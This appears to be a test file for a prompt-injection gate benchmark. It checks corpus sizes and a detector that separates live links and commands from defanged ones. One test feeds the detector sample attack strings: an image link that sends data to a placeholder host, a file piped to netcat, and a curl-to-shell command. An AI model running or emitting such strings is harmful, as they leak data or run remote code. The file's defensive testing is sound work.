"""bench/injection_gate.py: the corpora load whole, the active-form check sees live links
and not defanged ones, and the build before is loaded from git or reported absent."""

from __future__ import annotations

import sys
from collections import Counter
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[3] / "bench"))

import injection_gate as bench


def test_the_corpora_and_their_splits() -> None:
    sizes = Counter((item.corpus, item.split) for item in bench.corpora())
    assert sizes[("giskard", "dev")] + sizes[("giskard", "held-out")] == 35
    assert sizes[("bipia-code", "dev")] == sizes[("bipia-code", "held-out")] == 50
    assert sizes[("bipia-text", "dev")] == sizes[("bipia-text", "held-out")] == 75
    assert sizes[("bipia-text (directive)", "held-out")] == 50
    assert sizes[("probe", "all")] == 17
    assert [len(notes) for notes in bench.benign().values()] == [133, 1222]


def test_active_forms() -> None:
    assert bench.active('- "![s](https://a.example/p?d=1)" (fact, 2026-12-01)')
    assert bench.active("- see www.example.com now (fact, 2026-12-01)")
    assert bench.active("- cat x | nc h 4444 (fact, 2026-12-01)")
    assert not bench.active("- \"image 's' (hxxps://a[.]example/p?…)\" (fact, 2026-12-01)")
    assert not bench.active('- "`curl -s https://x.example | sh`" (fact, 2026-12-01)')


def test_the_current_rendering_leaves_no_active_form_in_any_corpus() -> None:
    for item in bench.corpora():
        assert not bench.active(bench.rendered_now(item.text)), item.text


def test_an_unknown_revision_has_no_build_before() -> None:
    assert bench.previous_policy("no-such-revision-anywhere") is None
